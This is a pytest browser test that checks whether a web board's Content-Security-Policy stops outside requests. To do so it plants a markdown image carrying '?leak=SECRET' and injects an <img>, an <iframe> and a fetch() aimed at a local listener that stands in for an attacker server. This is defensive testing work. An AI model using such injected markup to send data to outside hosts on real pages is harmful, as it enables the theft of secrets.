"""The web board's Content-Security-Policy in a real browser (issue 46; headless Chromium): a
spec's image that points outside is never requested, the repository's own image loads, and even
markup slipped into the page (an <img>, an <iframe>, a fetch: what a flaw in escaping would let
an agent's text do) reaches no other server: a listener on this machine counts no request.
Skips with one line where Chromium, chromedriver or selenium is missing."""
from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from tests.web import browser
from tests.web.test_csp import _board

WHY = browser.missing()
pytestmark = [pytest.mark.slow, pytest.mark.skipif(WHY is not None, reason=WHY or "")]


class _Listener(BaseHTTPRequestHandler):
    seen: list[str] = []

    def do_GET(self) -> None:  # noqa: N802 (the stdlib's name)
        self.seen.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/png")
        self.end_headers()

    def log_message(self, *args: Any) -> None:
        pass


@pytest.mark.timeout(300)
def test_nothing_outside_is_fetched_whatever_the_page_holds(repo: Path, tmp_path: Path) -> None:
    from selenium.webdriver.support.ui import WebDriverWait
    _Listener.seen = []
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Listener)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    outside = f"http://127.0.0.1:{server.server_address[1]}"
    _board(repo, extra=f"![leak]({outside}/from-spec?leak=SECRET)\n")
    served = browser.Served(repo)
    driver = browser.chrome(tmp_path / "chrome-profile")
    try:
        driver.get(served.url)  # the token, then the cookie
        driver.get(f"{served.base}/task/t1")
        wait = WebDriverWait(driver, 30, poll_frequency=0.1)
        # The repository's own image is loaded from the board itself.
        wait.until(lambda d: d.execute_script(
            "const i = document.querySelector('img[src=\"/repo/specs/diagram.png\"]');"
            "return i && i.complete && i.naturalWidth === 1"))
        driver.execute_script(
            "window.__blocked = [];"
            "document.addEventListener('securitypolicyviolation',"
            "  e => window.__blocked.push(e.violatedDirective));"
            f"document.body.insertAdjacentHTML('beforeend', '<img src=\"{outside}/img\">"
            f"<iframe src=\"{outside}/frame\"></iframe>');"
            f"fetch('{outside}/fetch').catch(() => window.__blocked.push('fetch-failed'));")
        blocked = wait.until(lambda d: (lambda b: b if len(b) >= 3 else None)(
            d.execute_script("return window.__blocked")))
        assert any(b.startswith("img-src") for b in blocked), blocked
        assert any(b.startswith("frame-src") for b in blocked), blocked
        assert any(b.startswith("connect-src") or b == "fetch-failed" for b in blocked), blocked
        assert "leak=SECRET" not in str(driver.execute_script(
            "return [...document.images].map(i => i.src)"))
    finally:
        driver.quit()
        served.close()
        server.shutdown()
    assert _Listener.seen == [], _Listener.seen
